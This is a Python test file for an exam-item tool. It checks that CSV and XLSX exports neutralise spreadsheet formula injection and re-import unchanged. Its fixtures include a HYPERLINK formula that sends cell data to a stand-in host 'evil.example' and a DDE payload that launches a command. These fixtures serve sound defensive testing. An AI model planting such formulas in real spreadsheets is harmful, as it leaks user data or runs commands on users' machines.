"""Exports run no formulas: a text cell beginning with = + - @, tab or CR is neutralised (a
leading apostrophe in CSV; a quote-prefixed string cell in XLSX), numbers stay numbers, and the
exports re-import to the very same items."""

from __future__ import annotations

import csv
import dataclasses
import io
import zipfile

import pytest
from openpyxl import load_workbook

from examengine.exam.items import IrtData, IrtModel
from examengine.itemfiles.reader import parse_upload
from examengine.itemfiles.tables import HEADERS, spreadsheet_text, write_csv, write_xlsx

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"点此")'
DDE = "=cmd|' /C calc'!A0"


def hostile(sample_drafts):
    d = next(d for d in sample_drafts if d.type.value == "单选")
    return dataclasses.replace(
        d, stem=HYPERLINK, options=(DDE, "+1+1", "-2", "@SUM(1)"), explanation="\t=1+1",
        author="@作者", irt=IrtData(IrtModel.THREE_PL, 1.2, -0.75, 0.2), images=())


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@x", "\t=1", "\r=1"])
def test_a_text_cell_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert spreadsheet_text(text) == "'" + text


@pytest.mark.parametrize("value", ["正常文本", "", "a=b", -0.75, 3, None])
def test_other_cells_and_numbers_are_left_alone(value):
    assert spreadsheet_text(value) == value


def test_the_item_csv_export_neutralises_text_and_keeps_numbers(sample_drafts):
    data = write_csv([hostile(sample_drafts)])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    row = dict(zip(HEADERS, rows[1]))
    assert row["题干"] == "'" + HYPERLINK and row["选项A"] == "'" + DDE
    assert (row["选项B"], row["选项C"], row["选项D"]) == ("'+1+1", "'-2", "'@SUM(1)")
    assert row["作者"] == "'@作者" and row["解析"] == "'\t=1+1"
    assert row["难度b"] == "-0.75"  # a number, not neutralised


def test_the_item_xlsx_export_has_no_formula_cell_and_quote_prefixes_text(sample_drafts):
    data = write_xlsx([hostile(sample_drafts)])
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"<f " not in sheet
    ws = load_workbook(io.BytesIO(data))["题目"]
    stem = ws.cell(row=2, column=HEADERS.index("题干") + 1)
    assert (stem.value, stem.data_type, stem.quotePrefix) == (HYPERLINK, "s", True)
    b = ws.cell(row=2, column=HEADERS.index("难度b") + 1)
    assert (b.value, b.data_type) == (-0.75, "n")


@pytest.mark.parametrize("writer,filename", [(write_xlsx, "x.xlsx"), (write_csv, "x.csv")])
def test_an_export_of_hostile_texts_reimports_to_the_same_item(sample_drafts, writer, filename):
    item = hostile(sample_drafts)
    parsed = parse_upload(filename, writer([item]))
    assert parsed.problems == ()
    (back,) = parsed.items
    assert (back.stem, back.options, back.author) == (item.stem, item.options, item.author)
    assert back.irt == item.irt
